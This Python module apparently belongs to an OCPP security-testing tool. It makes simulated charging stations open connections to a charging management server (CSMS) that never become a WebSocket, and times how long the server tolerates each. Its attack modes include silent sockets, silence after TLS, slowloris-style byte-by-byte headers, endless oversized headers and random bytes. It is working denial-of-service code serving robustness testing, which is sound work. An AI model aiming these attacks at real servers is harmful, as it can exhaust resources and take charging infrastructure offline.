"""Connections that never become a WebSocket, and how long a CSMS puts up with each."""

import asyncio
import os
from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import replace
from itertools import chain, repeat
from typing import Final
from urllib.parse import urlsplit

from ocppsec.link.link import Handler
from ocppsec.profiles.profile import SecurityProfile
from ocppsec.station.conduct import Conduct
from ocppsec.station.dialling import Dial, Failure
from ocppsec.station.manners.manner import Kind, manner
from ocppsec.station.memory import Memory
from ocppsec.station.tls import client_context

PATIENCE: Final = 120.0
"""Seconds after which we hang up ourselves, at pace 1."""

Piece = tuple[bytes, float]
"""What is written, and the seconds after which the next one is, at pace 1."""
Pieces = Callable[[Dial], Iterator[Piece]]


def _never_finished(right: Conduct, pieces: Pieces, *, tls: bool) -> Conduct:
    """Dials, writes *pieces*, and waits for the CSMS to hang up; with *tls* after a handshake where that is due."""

    async def dialler(
        attempt: Dial,
        _handler: Handler,
        /,
        *,
        memory: Memory,
        new_id: Callable[[], str],  # noqa: ARG001
    ) -> Failure:
        patience = PATIENCE * attempt.config.pace
        began = asyncio.get_running_loop().time()
        try:
            async with asyncio.timeout(patience):
                await _held(attempt, pieces(attempt), memory if tls else None)
        except TimeoutError:
            return Failure(stage="http", reason=f"the CSMS still waited after {patience:.1f} s", event=None)
        except OSError as error:
            return Failure(stage="tcp", reason=error.strerror or type(error).__name__, event=None)
        waited = asyncio.get_running_loop().time() - began
        return Failure(stage="http", reason=f"the CSMS hung up after {waited:.1f} s", event=None)

    return replace(right, dialler=dialler)


async def _held(attempt: Dial, pieces: Iterator[Piece], memory: Memory | None) -> None:
    """Returns when the CSMS hangs up."""
    url = urlsplit(attempt.url)
    context = None
    if memory is not None and attempt.connection.security_profile >= SecurityProfile.TLS_BASIC:
        context = client_context(attempt.roots, certificate=attempt.credentials(memory))
    port = url.port or (443 if url.scheme == "wss" else 80)
    reader, writer = await asyncio.open_connection(url.hostname, port, ssl=context)
    writing = asyncio.ensure_future(_write(writer, pieces, attempt.config.pace))
    try:
        while await reader.read(1024):
            pass
    except ConnectionError:
        return  # hung up, the hard way
    finally:
        writing.cancel()
        writer.transport.abort()
        await asyncio.gather(writing, return_exceptions=True)


async def _write(writer: asyncio.StreamWriter, pieces: Iterator[Piece], pace: float) -> None:
    for piece, pause in pieces:
        writer.write(piece)
        await writer.drain()
        await asyncio.sleep(pause * pace)


def request_head(attempt: Dial) -> bytes:
    """The upgrade as it should be, but for the empty line behind it."""
    url = urlsplit(attempt.url)
    lines = [
        f"GET {url.path} HTTP/1.1",
        f"Host: {url.netloc}",
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Version: 13",
        f"Sec-WebSocket-Key: {b64encode(os.urandom(16)).decode()}",
        f"Sec-WebSocket-Protocol: {attempt.subprotocol}",
        *(f"{name}: {value}" for name, value in attempt.headers.items()),
    ]
    return "".join(f"{line}\r\n" for line in lines).encode()


# -- manners ------------------------------------------------------------------------------------------------
@manner(
    "silent-socket", Kind.ATTACK, "Opens TCP connections and sends nothing, not even the first byte of TLS."
)
def silent_socket(right: Conduct) -> Conduct:
    return _never_finished(right, lambda _attempt: iter(()), tls=False)


@manner("silent-after-tls", Kind.ATTACK, "Completes the TLS handshake and then sends nothing.")
def silent_after_tls(right: Conduct) -> Conduct:
    return _never_finished(right, lambda _attempt: iter(()), tls=True)


@manner("slow-headers", Kind.ATTACK, "Sends its HTTP request one byte a second, and never comes to its end.")
def slow_headers(right: Conduct) -> Conduct:
    def drops(attempt: Dial) -> Iterator[Piece]:
        for byte in chain(request_head(attempt), *repeat(b"X-Slow: 1\r\n", 1000)):
            yield bytes((byte,)), 1.0

    return _never_finished(right, drops, tls=True)


@manner("endless-headers", Kind.ATTACK, "Sends headers without end, as fast as the CSMS takes them.")
def endless_headers(right: Conduct) -> Conduct:
    def stream(attempt: Dial) -> Iterator[Piece]:
        yield request_head(attempt), 0.0
        for _ in range(1000):
            yield b"X-Endless: " + b"x" * 4096 + b"\r\n", 0.0

    return _never_finished(right, stream, tls=True)


@manner("no-http", Kind.ATTACK, "Sends random bytes where its HTTP request should be.")
def no_http(right: Conduct) -> Conduct:
    return _never_finished(right, lambda _attempt: iter([(os.urandom(512) + b"\r\n\r\n", 0.0)]), tls=True)
